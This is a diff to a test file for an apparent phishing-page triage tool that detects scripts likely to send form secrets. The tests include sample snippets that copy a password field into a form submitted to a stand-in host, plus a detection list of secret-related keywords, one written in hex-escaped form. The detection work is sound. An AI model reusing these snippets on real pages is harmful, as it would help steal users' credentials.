@@ -7,6 +7,7 @@ import pytest
 
 from scamtriage.parse.html.page import read_page
 from scamtriage.parse.html.scripts.secret_words import may_name_secret
+from scamtriage.parse.html.scripts.tokens import spelled_out
 from scamtriage.records.facts import PageFacts
 from scamtriage.records.facts.page_parts import SENT_UNKNOWN
 from tests.cost import least_cpu_s
@@ -82,6 +83,12 @@ def test_scripts_that_are_not_read_leave_it_unknown(html: str) -> None:
     assert SENT_UNKNOWN in read("", FORM + html).flags
 
 
+def test_a_form_of_the_page_that_holds_no_secret_may_take_one() -> None:
+    assert (
+        SENT_UNKNOWN in read("h.x.value = xpw1.value; h.submit()", f"{FORM}<form name=h action=https://b.test/><input name=x></form>").flags
+    )
+
+
 def test_a_script_too_long_to_be_read_leaves_it_unknown() -> None:
     assert read("fetch(a, {body: 1}); g(xpw1.value);" + "a=b;" * 9_000).flags
 
@@ -91,12 +98,13 @@ def test_a_script_too_long_to_be_read_leaves_it_unknown() -> None:
     [
         ("var oneTimeCode", True), ("one_time_code", True), ("f.userPin", True), ("x.otp=1", True), ("MẬT KHẨU", True),
         ("cardNumber", True),
-        (r"f['\x70\x61ss']", True), ("f['pa' + 'ss']", True), ("new FormData(f)", True), ("a.mine.value", True), ("cardExpiration", True),
+        (r"f['\x70\x61ssword']", True), ("f['pa' + 'ss']", True), ("new FormData(f)", True),
+        ("a.mine.value", True), ("cardExpiration", True),
         ("spinner.typing(mapping)", False), ("discard(x)", False), ("expiration", False), ("cookie.expires", False),
     ],
 )  # fmt: skip
 def test_a_script_without_a_word_for_a_secret_is_not_taken_apart(script: str, may: bool) -> None:
-    assert may_name_secret(script, frozenset(("mine",))) == may
+    assert may_name_secret(spelled_out(script), frozenset(("mine",))) == may
 
 
 @pytest.mark.parametrize("one", ["<input type=password name=n{0:05d} id=m{0:05d}>", "<form id=f{0}><input type=password name=q{0}></form>"])
